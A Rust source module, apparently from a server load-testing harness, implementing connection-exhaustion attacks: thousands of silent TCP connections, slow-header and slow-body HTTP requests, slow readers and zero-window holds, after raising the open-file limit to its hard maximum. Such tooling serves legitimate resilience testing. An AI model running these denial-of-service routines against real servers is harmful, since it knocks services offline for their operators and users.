//! Attacks that are many connections, each of which does next to nothing.

use std::io::{self, Read as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};

use super::Attack;
use super::floods::{LARGE, TAKES, with_large_answers};
use super::wire::{Flood, Place};

/// How many connections say nothing, and how many are slow.
const SILENT: usize = 20_000;
const SLOW: usize = 1_000;

/// How many have large answers waiting for them.
const WAITING: usize = 100;

/// One part of a crowd after the other says something, each once in a second.
const PARTS: usize = 100;
const PAUSE: Duration = Duration::from_millis(10);

/// Connections that are kept for as long as the server lets them be.
pub(super) struct Crowd {
    open: Join,
    members: Vec<Option<Member>>,
    next: usize,
}

/// One of them.
enum Member {
    /// Never says anything.
    Silent(TcpStream),
    /// Says a byte now and then.
    Slow(Flood),
    /// Has asked for something, and takes nothing of it.
    Kept(Flood),
}

/// How somebody joins a crowd.
type Join = fn(&Place<'_>) -> io::Result<Member>;

/// How somebody joins the crowd that an attack needs, and how many they are. `None` if it needs none.
fn plan(attack: Attack) -> Option<(Join, usize)> {
    Some(match attack {
        Attack::Crowd => (silent, SILENT),
        Attack::SlowHeads => (slow_head, SLOW),
        Attack::SlowBodies => (slow_body, SLOW),
        Attack::SlowReaders => (slow_reader, SLOW),
        Attack::NoWindow => (no_window, WAITING),
        _ => return None,
    })
}

/// Whether an attack is that of a crowd.
pub(super) fn is_for(attack: Attack) -> bool {
    plan(attack).is_some()
}

/// The crowd that an attack needs, all of it there. `None` if it needs none.
pub(super) fn of(attack: Attack, place: &Place<'_>) -> Option<Crowd> {
    let (open, count) = plan(attack)?;
    let files = getrlimit(Resource::Nofile).maximum;
    setrlimit(Resource::Nofile, Rlimit { current: files, maximum: files }).expect("the hard limit may be reached");
    let mut crowd = Crowd { open, members: (0..count).map(|_| None).collect(), next: 0 };
    (0..PARTS).for_each(|_| crowd.fill_next(place));
    Some(crowd)
}

impl Crowd {
    /// Lets the next of them say something, and replaces those whom the server has let go.
    pub(super) fn go_on(&mut self, place: &Place<'_>) {
        thread::sleep(PAUSE);
        for member in self.part() {
            if member.as_mut().is_some_and(|member| member.go_on().is_err()) {
                *member = None;
            }
        }
        self.fill_next(place);
    }

    fn fill_next(&mut self, place: &Place<'_>) {
        let open = self.open;
        for member in self.part().iter_mut().filter(|member| member.is_none()) {
            *member = open(place).ok();
        }
        self.next = (self.next + 1) % PARTS;
    }

    fn part(&mut self) -> &mut [Option<Member>] {
        let size = self.members.len() / PARTS;
        &mut self.members[self.next * size..(self.next + 1) * size]
    }
}

impl Member {
    fn go_on(&mut self) -> io::Result<()> {
        match self {
            Self::Slow(flood) => flood.write(b"x"),
            Self::Kept(flood) => flood.is_there(),
            Self::Silent(stream) => match stream.read(&mut [0]) {
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(()),
                _ => Err(io::ErrorKind::UnexpectedEof.into()),
            },
        }
    }
}

fn silent(place: &Place<'_>) -> io::Result<Member> {
    let stream = place.connect()?;
    stream.set_nonblocking(true)?;
    Ok(Member::Silent(stream))
}

fn slow_head(place: &Place<'_>) -> io::Result<Member> {
    let mut flood = place.secure("http/1.1")?;
    flood.write(b"GET / HTTP/1.1\r\nx: ")?;
    Ok(Member::Slow(flood))
}

fn slow_body(place: &Place<'_>) -> io::Result<Member> {
    let mut flood = place.secure("http/1.1")?;
    let head = format!("POST {TAKES} HTTP/1.1\r\nhost: {}\r\ncontent-length: 1000000\r\n\r\n", place.authority);
    flood.write(head.as_bytes())?;
    Ok(Member::Slow(flood))
}

fn slow_reader(place: &Place<'_>) -> io::Result<Member> {
    let mut flood = place.secure("http/1.1")?;
    flood.write(format!("GET {LARGE} HTTP/1.1\r\nhost: {}\r\n\r\n", place.authority).as_bytes())?;
    Ok(Member::Kept(flood))
}

fn no_window(place: &Place<'_>) -> io::Result<Member> {
    with_large_answers(place).map(Member::Kept)
}
